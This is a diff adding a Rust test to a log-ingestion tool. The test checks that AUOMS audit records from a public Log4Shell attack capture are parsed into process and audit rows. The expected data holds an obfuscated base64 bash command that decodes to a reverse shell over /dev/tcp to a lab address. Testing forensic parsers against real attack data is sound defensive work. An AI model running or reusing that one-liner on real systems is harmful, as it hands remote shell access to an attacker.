@@ -743,6 +743,34 @@ fn auditd_records_are_joined_by_serial_into_processes_connections_and_files() {
 }
 
 #[test]
+fn auoms_records_in_sentinel_syslog_rows_are_process_starts_and_audit_rows() {
+    // OTRF's Log4Shell capture: 50 AUOMS_EXECVE records, 27 of them `success=yes` (counted
+    // with a script over the file); of the 23 failed execs (a program looked for along the PATH),
+    // 5 are Tomcat's Java looking for `bash`, 12 dpkg's and 6 the Azure agent's.
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/data/linux/sentinel_syslog_auoms_log4shell_jndi.json");
+    let t = ingest_files(&[path]);
+    let f = &t.summary.files[0];
+    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (50, 50, 0, 0));
+    assert_eq!(f.rows.get(&spoor::core::schema::Table::Auditd), Some(&50));
+    assert_eq!(f.rows.get(&spoor::core::schema::Table::Process), Some(&27));
+    let row = one_row(
+        &t.store,
+        r#"SELECT "host.name", "user.name", "process.pid", "process.parent.pid", "process.name", "process.command_line",
+                  "process.working_directory" FROM process ORDER BY "@timestamp", "log.file.line" LIMIT 1"#,
+    );
+    let shell = r#"bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}""#;
+    assert_eq!(row, ["ubuntu5", "tomcat", "17790", "1340", "bash", shell, "/"]);
+    // A failed exec is an audit row only, with what auoms said of it.
+    let row = one_row(
+        &t.store,
+        r#"SELECT count(*), min("auditd.fields"['exit']), count(*) FILTER (WHERE "auditd.fields"['comm'] = 'http-nio-8080-e')
+           FROM auditd WHERE "auditd.fields"['success'] = 'no'"#,
+    );
+    assert_eq!(row, ["23", "-2", "5"]);
+}
+
+#[test]
 fn zeek_http_tls_certificates_and_every_other_log_keep_all_their_fields() {
     let zeek = |rel: &str| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/zeek").join(rel);
     let t = ingest_files(&[
